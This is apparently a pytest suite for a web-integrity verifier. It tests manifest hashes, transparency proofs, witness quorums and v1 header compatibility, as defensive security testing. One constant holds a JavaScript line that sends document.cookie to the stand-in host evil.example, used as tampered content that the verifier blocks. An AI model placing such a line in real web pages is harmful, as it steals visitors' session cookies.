"""One test per rule of design.md section 5: the valid case and each way to be invalid.

Every scenario is built byte by byte with the verifier's own encoders (tests/world.py) and
run through ``verifier.decide``, the function the extension and ``waict check`` use.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from world import DAY, World, h64u, manifest_line

from verifier import decide
from verifier.encoding import b64encode
from verifier.errors import ScenarioError
from verifier.proof import ChainHeadWithProof

HOST = "site.example"
ORIGIN = f"https://{HOST}"
HEADER = 'max-age=86400, mode=enforce, manifest="/.well-known/waict/manifests/v1"'
REPORT = 'max-age=86400, mode=report, manifest="/.well-known/waict/manifests/v1"'

FILES: dict[str, tuple[str, bytes]] = {
    "/index.html": ("document", b"<!doctype html><script src=/app.js></script>"),
    "/app.js": ("script", b"console.log('app');"),
    "/style.css": ("style", b"body{color:black}"),
    "/worker.js": ("worker", b"onmessage=()=>{};"),
    "/logo.png": ("image", b"\x89PNG fake image"),
}
WASM = b"\x00asm\x01\x00\x00\x00"
EVIL = b"fetch('https://evil.example/?c='+document.cookie)"


def site_manifest(**extra: Any) -> dict[str, Any]:
    obj: dict[str, Any] = {"hashes": {ORIGIN + p: h64u(body) for p, (_, body) in FILES.items()}}
    obj["wasm_hashes"] = [h64u(WASM)]
    obj.update(extra)
    return obj


def resources(**replace: bytes) -> list[tuple[str, str, bytes]]:
    out = [(ORIGIN + p, d, replace.get(p, body)) for p, (d, body) in FILES.items()]
    return out


class Site:
    """A logged site whose scenario can be corrupted one thing at a time."""

    def __init__(self, manifest: dict[str, Any] | None = None, host: str = HOST) -> None:
        self.world = World()
        self.host = host
        self.line = manifest_line(manifest or site_manifest())
        self.world.log(host, self.line)

    def proof(self, **kw: Any) -> ChainHeadWithProof:
        return self.world.proof(self.host, **kw)

    def scenario(
        self,
        *,
        header: str | None = HEADER,
        response: bytes | str | None = "default",
        extra: list[tuple[str, str, bytes]] | None = None,
        res: list[tuple[str, str, bytes]] | None = None,
        **kw: Any,
    ) -> dict[str, Any]:
        if response == "default":
            response = self.world.response(self.line, self.proof())
        assert not isinstance(response, str)
        rs = (res if res is not None else resources()) + (extra or [])
        return self.world.scenario(f"https://{self.host}/index.html", header, response, rs, **kw)


def run(scenario: dict[str, Any]) -> dict[str, Any]:
    verdict = decide(json.loads(json.dumps(scenario)))
    assert [r["url"] for r in verdict["resources"]] == [r["url"] for r in scenario["resources"]]
    return verdict


def reasons(verdict: dict[str, Any]) -> dict[str, str | None]:
    return {r["url"].removeprefix(ORIGIN): r["reason"] for r in verdict["resources"]}


def assert_valid_all_allowed(verdict: dict[str, Any]) -> None:
    assert verdict["navigation"] == "allow"
    assert verdict["manifest"] == {"status": "valid", "reason": None, "detail": None}
    assert all(r["allowed"] and r["reason"] is None for r in verdict["resources"])


def assert_invalid(
    verdict: dict[str, Any], reason: str, detail: str, *, navigation: str = "block"
) -> None:
    assert verdict["manifest"]["status"] == "invalid", verdict["manifest"]
    assert verdict["manifest"]["reason"] == reason
    assert verdict["manifest"]["detail"] == detail, verdict["manifest"]
    assert verdict["navigation"] == navigation


# --- the valid site and the per-fetch check ---------------------------------------------


def test_valid_site_allows_everything() -> None:
    assert_valid_all_allowed(run(Site().scenario()))


@pytest.mark.parametrize("path", ["/app.js", "/style.css", "/worker.js", "/logo.png"])
def test_tampered_subresource_is_blocked_alone(path: str) -> None:
    verdict = run(Site().scenario(res=resources(**{path: EVIL})))
    assert verdict["navigation"] == "allow"
    assert verdict["manifest"]["status"] == "valid"
    for r in verdict["resources"]:
        tampered = r["url"] == ORIGIN + path
        assert r["allowed"] is not tampered
        assert r["reason"] == ("no_manifest_match" if tampered else None)


def test_tampered_document_blocks_navigation() -> None:
    verdict = run(Site().scenario(res=resources(**{"/index.html": EVIL})))
    assert verdict["navigation"] == "block"
    assert reasons(verdict)["/index.html"] == "no_manifest_match"


@pytest.mark.parametrize(
    "destination",
    [
        "script",
        "style",
        "worker",
        "sharedworker",
        "serviceworker",
        "iframe",
        "frame",
        "audioworklet",
        "paintworklet",
        "xslt",
        "object",
    ],
)
def test_unlisted_active_resource_is_missing_from_manifest(destination: str) -> None:
    verdict = run(Site().scenario(extra=[(ORIGIN + "/extra", destination, b"x")]))
    assert reasons(verdict)["/extra"] == "missing_from_manifest"
    assert verdict["resources"][-1]["allowed"] is False


@pytest.mark.parametrize("destination", ["image", "font", "audio", "video", "json"])
def test_unlisted_passive_resource_is_allowed(destination: str) -> None:
    verdict = run(Site().scenario(extra=[(ORIGIN + "/unlisted", destination, EVIL)]))
    assert verdict["resources"][-1] == {
        "url": ORIGIN + "/unlisted",
        "allowed": True,
        "reason": None,
    }


@pytest.mark.parametrize("destination", ["", "fetch", "manifest", "track", "report", "embed"])
def test_uncovered_destinations_always_allowed(destination: str) -> None:
    site = Site()
    good = run(site.scenario(extra=[(ORIGIN + "/api", destination, EVIL)]))
    assert good["resources"][-1]["allowed"] is True
    bad = run(site.scenario(response=None, extra=[(ORIGIN + "/api", destination, EVIL)]))
    assert bad["resources"][-1] == {"url": ORIGIN + "/api", "allowed": True, "reason": None}


def test_wasm_checked_against_wasm_hashes() -> None:
    verdict = run(
        Site().scenario(
            extra=[(ORIGIN + "/m.wasm", "wasm", WASM), (ORIGIN + "/x.wasm", "wasm", WASM + b"!")]
        )
    )
    assert verdict["resources"][-2]["allowed"] is True
    assert verdict["resources"][-1] == {
        "url": ORIGIN + "/x.wasm",
        "allowed": False,
        "reason": "wasm_hash_mismatch",
    }


def test_fallback_hashes_only_for_documents() -> None:
    page = b"<!doctype html>generated error page"
    site = Site(site_manifest(fallback_hashes=[h64u(page)]))
    verdict = run(
        site.scenario(
            extra=[(ORIGIN + "/missing", "document", page), (ORIGIN + "/x.js", "script", page)]
        )
    )
    assert verdict["resources"][-2]["allowed"] is True
    assert verdict["resources"][-1]["reason"] == "missing_from_manifest"


def test_wildcard_hashes_need_every_delimited_part() -> None:
    parts = [b"part one", b"part two"]
    delim = "/*--*/"
    site = Site(
        site_manifest(wildcard_hashes=sorted(h64u(p) for p in parts), resource_delimiter=delim)
    )
    bundle = parts[0] + delim.encode() + parts[1]
    verdict = run(
        site.scenario(
            extra=[
                (ORIGIN + "/bundle.js", "script", bundle),
                (ORIGIN + "/bad.js", "script", bundle + delim.encode() + b"evil"),
                (
                    ORIGIN + "/app.js",
                    "script",
                    parts[0],
                ),  # listed URL: never falls back to wildcards
            ]
        )
    )
    assert [r["reason"] for r in verdict["resources"][-3:]] == [
        None,
        "no_manifest_match",
        "no_manifest_match",
    ]


def test_wildcards_without_delimiter_do_not_apply() -> None:
    site = Site(site_manifest(wildcard_hashes=[h64u(b"lib")]))
    verdict = run(site.scenario(extra=[(ORIGIN + "/lib.js", "script", b"lib")]))
    assert verdict["resources"][-1]["reason"] == "missing_from_manifest"


def test_request_url_fragment_is_ignored_and_default_port_folded() -> None:
    verdict = run(
        Site().scenario(extra=[(ORIGIN + ":443/app.js#frag", "script", FILES["/app.js"][1])])
    )
    assert verdict["resources"][-1]["allowed"] is True


def test_report_mode_allows_but_reports() -> None:
    verdict = run(
        Site().scenario(header=REPORT, res=resources(**{"/app.js": EVIL, "/index.html": EVIL}))
    )
    assert verdict["navigation"] == "allow"
    assert all(r["allowed"] for r in verdict["resources"])
    assert reasons(verdict)["/app.js"] == "no_manifest_match"
    assert reasons(verdict)["/index.html"] == "no_manifest_match"


# --- header and manifest availability ---------------------------------------------------


@pytest.mark.parametrize(
    "header",
    [
        None,
        "",
        'mode=enforce, manifest="/m"',
        'max-age=-1, mode=enforce, manifest="/m"',
        'max-age=1, mode=block, manifest="/m"',
        "max-age=1, mode=enforce",
        'max-age=1, mode="enforce", manifest="/m"',
        "max-age=1, mode=enforce, manifest=m",
        'max-age=1.5, mode=enforce, manifest="/m"',
        "not a dictionary;;",
    ],
)
def test_no_valid_header_means_not_enrolled(header: str | None) -> None:
    verdict = run(Site().scenario(header=header, res=resources(**{"/app.js": EVIL})))
    assert verdict == {
        "navigation": "allow",
        "manifest": {"status": "none", "reason": None, "detail": None},
        "resources": [{"url": u, "allowed": True, "reason": None} for u, _, _ in resources()],
    }


def test_unknown_header_keys_are_ignored() -> None:
    header = HEADER + ', grease-x=1, preload=?0, endpoints=(a "b"), future=(1 2)'
    assert_valid_all_allowed(run(Site().scenario(header=header)))


def test_missing_manifest_is_unavailable_and_blocks_in_enforce() -> None:
    verdict = run(Site().scenario(response=None))
    assert_invalid(verdict, "manifest_unavailable", "manifest_unavailable")
    assert all(
        r["allowed"] is False and r["reason"] == "manifest_unavailable"
        for r in verdict["resources"]
    )


def test_missing_manifest_in_report_mode_allows() -> None:
    verdict = run(Site().scenario(header=REPORT, response=None))
    assert_invalid(verdict, "manifest_unavailable", "manifest_unavailable", navigation="allow")
    assert all(r["allowed"] and r["reason"] == "manifest_unavailable" for r in verdict["resources"])


# --- manifest validation (the whole manifest, up front) --------------------------------


@pytest.mark.parametrize(
    "mutate",
    [
        lambda m: m.pop("hashes"),
        lambda m: m.update(hashes=[]),
        lambda m: m["hashes"].update({"/relative.js": h64u(b"x")}),
        lambda m: m["hashes"].update({"HTTPS://site.example/upper": h64u(b"x")}),
        lambda m: m["hashes"].update({ORIGIN + "/a#frag": h64u(b"x")}),
        lambda m: m["hashes"].update({ORIGIN + ":443/a": h64u(b"x")}),
        lambda m: m["hashes"].update({ORIGIN + "/padded": b64encode(b"\0" * 32)}),
        lambda m: m["hashes"].update({ORIGIN + "/short": h64u(b"x")[:-2]}),
        lambda m: m["hashes"].update({ORIGIN + "/unused-image.png": "!!"}),
        lambda m: m.update(
            wasm_hashes=[h64u(b"b"), h64u(b"a")][:: 1 if h64u(b"b") > h64u(b"a") else -1]
        ),
        lambda m: m.update(wasm_hashes=[h64u(b"a"), h64u(b"a")]),
        lambda m: m.update(inline_js_hashes="not-a-list"),
        lambda m: m.update(emergency_opt_out="yes"),
        lambda m: m.update(resource_delimiter=7),
    ],
)
def test_invalid_manifest_rejected_whole(mutate: Any) -> None:
    manifest = site_manifest()
    mutate(manifest)
    verdict = run(Site(manifest).scenario())
    assert_invalid(verdict, "invalid_manifest", verdict["manifest"]["detail"])
    covered = [r for r in verdict["resources"]]
    assert all(r["allowed"] is False and r["reason"] == "invalid_manifest" for r in covered)


@pytest.mark.parametrize(
    "body",
    [
        b"not json\n\n",
        b"[1,2]\n\n",
        b'{"hashes":{}}',
        b'{"hashes":{}}\n',
        b'{"hashes":{}}\nAAAA\nextra\n',
        b'{"hashes":{},"x":NaN}\n\n',
        b"\xff\xfe\n\n",
        b"[" * 5000 + b"\n\n",
    ],
)
def test_unparseable_manifest_response(body: bytes) -> None:
    verdict = run(Site().scenario(header='max-age=0, mode=enforce, manifest="/m"', response=body))
    assert_invalid(verdict, "invalid_manifest", verdict["manifest"]["detail"])


def test_unknown_members_ignored_and_last_duplicate_wins() -> None:
    site = Site()
    first = json.dumps({"hashes": {}})[:-1]
    line = (first + "," + site.line.decode()[1:]).encode()  # "hashes" twice: the site's wins
    line = line[:-1] + b',"x-plugin":{"anything":[1,2]}}'
    site.line = line
    site.world.chains.clear()
    site.world.log(HOST, line)
    assert_valid_all_allowed(run(site.scenario()))


def test_max_age_zero_needs_no_proof() -> None:
    site = Site()
    header = 'max-age=0, mode=enforce, manifest="/m"'
    verdict = run(site.scenario(header=header, response=site.world.response(site.line, "")))
    assert_valid_all_allowed(verdict)


def test_tombstone_manifest_with_invalid_fields_is_still_a_tombstone() -> None:
    obj = {"hashes": {"relative": "garbage"}, "emergency_opt_out": True, "wasm_hashes": 5}
    site = Site(obj)
    verdict = run(site.scenario(res=resources(**{"/app.js": EVIL})))
    assert verdict["manifest"]["status"] == "tombstone"
    assert verdict["navigation"] == "allow"
    assert all(r["allowed"] for r in verdict["resources"])


# --- the transparency proof -------------------------------------------------------------


def _proof_bytes(site: Site) -> bytes:
    return site.proof().encode()


@pytest.mark.parametrize(
    "proof_text",
    [
        "%%%not base64%%%",
        "AAAA",
        "QUJD",  # 3 bytes
        "AAAAAAAAAAAA=",  # bad padding
    ],
)
def test_unparseable_proof_is_invalid_transparency_proof(proof_text: str) -> None:
    site = Site()
    verdict = run(site.scenario(response=site.world.response(site.line, proof_text)))
    assert_invalid(verdict, "invalid_transparency_proof", "malformed_proof")


def test_empty_proof_line_with_positive_max_age() -> None:
    site = Site()
    verdict = run(site.scenario(response=site.world.response(site.line, "")))
    assert_invalid(verdict, "invalid_transparency_proof", "malformed_proof")


@pytest.mark.parametrize("cut", [1, 33, 100])
def test_truncated_proof(cut: int) -> None:
    site = Site()
    raw = _proof_bytes(site)[:-cut]
    verdict = run(site.scenario(response=site.world.response(site.line, b64encode(raw))))
    assert verdict["manifest"]["reason"] == "invalid_transparency_proof"


def test_trailing_bytes_after_proof() -> None:
    site = Site()
    raw = _proof_bytes(site) + b"\0"
    verdict = run(site.scenario(response=site.world.response(site.line, b64encode(raw))))
    assert_invalid(verdict, "invalid_transparency_proof", "malformed_proof")


def test_malformed_tree_proof_and_note() -> None:
    site = Site()
    good = site.proof()
    bad_tree = ChainHeadWithProof(good.head, good.tree_proof + b"\x01", good.note)
    verdict = run(site.scenario(response=site.world.response(site.line, bad_tree)))
    assert_invalid(verdict, "invalid_transparency_proof", "malformed_tree_proof")
    bad_note = ChainHeadWithProof(good.head, good.tree_proof, good.note.replace(b"\n\n", b"\n"))
    verdict = run(site.scenario(response=site.world.response(site.line, bad_note)))
    assert_invalid(verdict, "invalid_transparency_proof", "malformed_note")


def test_every_single_proof_byte_flip_is_caught() -> None:
    """Flip one bit in each byte of the proof: never a valid verdict.

    Quorum 2 of 2, so a flip that renames a witness (an unknown key is ignored, by rule)
    also loses the quorum."""
    site = Site()
    trust = site.world.trust(quorum=2)
    raw = bytearray(_proof_bytes(site))
    for i in range(len(raw)):
        mutated = bytearray(raw)
        mutated[i] ^= 0x01
        response = site.world.response(site.line, b64encode(bytes(mutated)))
        verdict = run(site.scenario(response=response, trust=trust))
        assert verdict["manifest"]["status"] == "invalid", (i, verdict["manifest"])
        assert verdict["navigation"] == "block"


def test_untrusted_transparency_service() -> None:
    site = Site()
    proof = site.proof(note=site.world.note(ts="evil-ts.example"))
    verdict = run(site.scenario(response=site.world.response(site.line, proof)))
    assert_invalid(verdict, "invalid_manifest", "untrusted_ts")


def test_several_trusted_services() -> None:
    site = Site()
    proof = site.proof(note=site.world.note(ts="ts2.example"))
    trust = site.world.trust(transparency_services=["ts.example", "ts2.example"])
    assert_valid_all_allowed(
        run(site.scenario(response=site.world.response(site.line, proof), trust=trust))
    )


def test_manifest_changed_after_logging() -> None:
    site = Site()
    proof = site.proof()
    altered = manifest_line(site_manifest(hashes={ORIGIN + "/app.js": h64u(EVIL)}))
    verdict = run(
        site.scenario(
            response=site.world.response(altered, proof), res=[(ORIGIN + "/app.js", "script", EVIL)]
        )
    )
    assert_invalid(verdict, "invalid_manifest", "resource_hash_mismatch")
    assert verdict["resources"][0] == {
        "url": ORIGIN + "/app.js",
        "allowed": False,
        "reason": "invalid_manifest",
    }


def test_proof_for_another_host() -> None:
    site = Site()
    site.world.log("other.example", site.line)
    other = site.world.proof("other.example")
    verdict = run(site.scenario(response=site.world.response(site.line, other)))
    assert_invalid(verdict, "invalid_manifest", "tree_proof_failed")


def test_root_not_matching_tree() -> None:
    site = Site()
    proof = site.proof(note=site.world.note(root=b"\x07" * 32))
    verdict = run(site.scenario(response=site.world.response(site.line, proof)))
    assert_invalid(verdict, "invalid_manifest", "tree_proof_failed")


def test_stale_head_older_chain_node() -> None:
    """A rolled-back head: the tree commits to the newest node, not an older one."""
    site = Site()
    old = site.world.chains[HOST][-1]
    site.world.log(HOST, manifest_line(site_manifest(v=2)))
    tree_now = site.world.proof(HOST).tree_proof
    rolled = ChainHeadWithProof(old, tree_now, site.world.note().encode())
    verdict = run(site.scenario(response=site.world.response(site.line, rolled)))
    assert_invalid(verdict, "invalid_manifest", "tree_proof_failed")


# --- cosignatures ---------------------------------------------------------------------


def _with_note(site: Site, cosigners: Any, trust: dict[str, Any] | None = None) -> dict[str, Any]:
    proof = site.proof(note=site.world.note(cosigners))
    return run(site.scenario(response=site.world.response(site.line, proof), trust=trust))


def test_quorum_counts_distinct_trusted_witnesses() -> None:
    site = Site()
    w1, w2, w3 = site.world.witness_names
    now = site.world.now
    trust2 = site.world.trust(quorum=2)
    assert_valid_all_allowed(_with_note(site, {w1: now - 60, w2: now - 60}, trust2))
    assert_invalid(
        _with_note(site, [(w1, now - 60), (w1, now - 30)], trust2),
        "invalid_manifest",
        "quorum_not_met",
    )
    # w3 signs validly but is not trusted: ignored, not counted
    assert_invalid(
        _with_note(site, {w1: now - 60, w3: now - 60}, trust2), "invalid_manifest", "quorum_not_met"
    )
    assert_invalid(_with_note(site, {}), "invalid_manifest", "quorum_not_met")


def test_quorum_larger_than_witness_list_fails_closed() -> None:
    site = Site()
    verdict = _with_note(site, None, site.world.trust(quorum=3))
    assert_invalid(verdict, "invalid_manifest", "quorum_not_met")


def test_stale_and_future_cosignatures_not_counted() -> None:
    site = Site()
    w1, w2, _ = site.world.witness_names
    now = site.world.now
    assert_invalid(
        _with_note(site, {w1: now - 7 * DAY - 1}), "invalid_manifest", "stale_cosignature"
    )
    assert_valid_all_allowed(_with_note(site, {w1: now - 7 * DAY}))
    assert_invalid(_with_note(site, {w1: now + 601}), "invalid_manifest", "future_cosignature")
    assert_valid_all_allowed(_with_note(site, {w1: now + 600}))
    # a stale one does not spoil a fresh quorum
    assert_valid_all_allowed(_with_note(site, {w1: now - 30 * DAY, w2: now - 60}))


def test_bad_cosignature_from_known_key_rejects_note() -> None:
    site = Site()
    w1, w2, _ = site.world.witness_names
    note = site.world.note({w1: site.world.now - 60, w2: site.world.now - 60})
    broken = note.encode()
    lines = broken.split(b"\n")
    # re-sign w2's line over a different timestamp: structurally fine, signature wrong
    sig_line = lines[-2].decode()
    name, blob = sig_line[2:].split(" ")
    import base64

    raw = bytearray(base64.b64decode(blob))
    raw[-1] ^= 1
    lines[-2] = f"\u2014 {name} {base64.b64encode(bytes(raw)).decode()}".encode()
    proof = site.proof()
    proof = ChainHeadWithProof(proof.head, proof.tree_proof, b"\n".join(lines))
    verdict = run(site.scenario(response=site.world.response(site.line, proof)))
    assert_invalid(verdict, "invalid_manifest", "bad_cosignature")


def test_cosignature_timestamp_is_signed() -> None:
    """Moving a cosignature's timestamp (to look fresh) breaks its signature."""
    site = Site()
    w1 = site.world.witness_names[0]
    note = site.world.note({w1: site.world.now - 30 * DAY})
    sig = note.cosignatures[0]
    from dataclasses import replace

    from verifier.note import SignedNote

    moved = SignedNote(note.body, (replace(sig, timestamp=site.world.now - 60),))
    proof = site.proof(note=moved)
    verdict = run(site.scenario(response=site.world.response(site.line, proof)))
    assert_invalid(verdict, "invalid_manifest", "bad_cosignature")


# --- v1 compatibility ---------------------------------------------------------------------


V1_HEADER = (
    'manifest="/waict-manifest.json", blocked-destinations=(script style), mode=enforce, max-age=0'
)


def v1_body() -> bytes:
    obj = {
        "hashes": {
            "/app.js": b64encode(__import__("hashlib").sha256(FILES["/app.js"][1]).digest()),
            "/style.css": h64u(FILES["/style.css"][1]),
        }
    }
    return json.dumps(obj, indent=4).encode()


def test_v1_covers_exactly_blocked_destinations() -> None:
    site = Site()
    verdict = run(
        site.scenario(
            header=V1_HEADER,
            response=v1_body(),
            extra=[(ORIGIN + "/other.js", "script", b"x"), (ORIGIN + "/pic.png", "image", EVIL)],
        )
    )
    assert verdict["manifest"]["status"] == "valid"
    assert reasons(verdict) == {
        "/index.html": None,
        "/app.js": None,
        "/style.css": None,
        "/worker.js": None,
        "/logo.png": None,
        "/other.js": "missing_from_manifest",
        "/pic.png": None,
    }


def test_v1_with_positive_max_age_is_unsupported() -> None:
    verdict = run(
        Site().scenario(header=V1_HEADER.replace("max-age=0", "max-age=60"), response=v1_body())
    )
    assert_invalid(verdict, "invalid_manifest", "v1_transparency_unsupported")


# --- scenario errors ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "mutate",
    [
        lambda s: s.pop("now"),
        lambda s: s.update(now="soon"),
        lambda s: s.update(trust=None),
        lambda s: s["trust"].update(quorum=0),
        lambda s: s["trust"]["witnesses"][0].update(key="short"),
        lambda s: s.update(url="ftp://x"),
        lambda s: s.update(manifest_response="%%%"),
        lambda s: s.update(resources=[{"url": "https://x/", "destination": "script"}]),
        lambda s: s.update(header=5),
    ],
)
def test_unusable_scenario_raises_scenario_error(mutate: Any) -> None:
    scenario = Site().scenario()
    mutate(scenario)
    with pytest.raises(ScenarioError):
        decide(scenario)
